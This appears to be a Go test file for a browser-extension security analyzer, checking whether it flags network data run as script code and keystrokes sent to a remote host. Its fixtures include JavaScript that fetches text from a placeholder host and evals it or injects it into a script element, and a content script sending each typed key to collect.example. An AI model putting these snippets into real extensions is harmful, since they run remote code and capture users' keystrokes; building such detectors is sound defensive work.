package analysis

import (
	"strings"
	"testing"
)

// Data in the text of a script is told from code.
func TestDataInScripts(t *testing.T) {
	const load = `const s = document.createElement("script"); fetch("https://api.example/x").then(r => r.text()).then(x => { TEXT; document.head.append(s) })`
	for text, code := range map[string]bool{
		`s.textContent = x`:                                                  true,
		`s.textContent = "(function(){" + x + "})()"`:                        true,
		`s.textContent = "window.address = '" + x + "'; go(window.address)"`: false,
		"s.innerHTML = `window.address = '${x}';`":                           false,
		"s.text = `eval('${x}')`":                                            true,
		"s.text = `run(${JSON.stringify(x)})`":                               false,
		"s.text = `(0, eval)(${JSON.stringify(x)})`":                         true,
		"s.text = JSON.parse(JSON.stringify({x})).x":                         true,
		`s.append(document.createTextNode("var a = \"" + x + "\""))`:         false,
		`s.append(document.createTextNode("a();" + x))`:                      true,
		`s.setAttribute("onload", "this.volume = " + x + ";")`:               true,
		`s.textContent = "window.settings = " + x + ";"`:                     true,
		`s.setAttribute("onload", "go();" + x)`:                              true,
	} {
		t.Run(text, func(t *testing.T) {
			r := background(t, "bg.js", strings.Replace(load, "TEXT", text, 1))
			if got := hasFlow(r, "network", "script_text", "") || hasFlow(r, "network", "on_attribute", ""); got != code {
				t.Errorf("runs it as code: %v, flows %+v", got, r.Flows)
			}
		})
	}
}

// A setting is data, where a server's answer in its place could be code.
func TestSettingsInScripts(t *testing.T) {
	r := background(t, "bg.js", `chrome.storage.local.get("volume", v => { const s = document.createElement("video"); s.setAttribute("onload", "this.volume = " + v.volume + ";") })`)
	if hasFlow(r, "storage", "on_attribute", "") {
		t.Errorf("flows %+v", r.Flows)
	}
}

// What is copied name by name keeps its names.
func TestNamesCopiedFromTheWindow(t *testing.T) {
	r := background(t, "bg.js", `["Array", "Date", "Error", "Function", "Math"].forEach(function (k) { if (window[k]) self[k] = window[k] });
		fetch("https://api.example/t").then(r => r.json()).then(x => console.log(new Date(x.time)))`)
	if hasFlow(r, "network", "eval", "") {
		t.Errorf("flows %+v", r.Flows)
	}
}

// The data that is given with a listener is none that is typed.
func TestDataOfAListener(t *testing.T) {
	for name, want := range map[string]bool{"e.data.next": false, "e.key": true} {
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}`,
			"c.js":          `$(document).on("keydown", {next: "/2"}, function (e) { $.get("https://collect.example/" + ` + name + `) })`,
		})
		if got := hasFlow(r, "key_events", "http_client", "collect.example"); got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
}
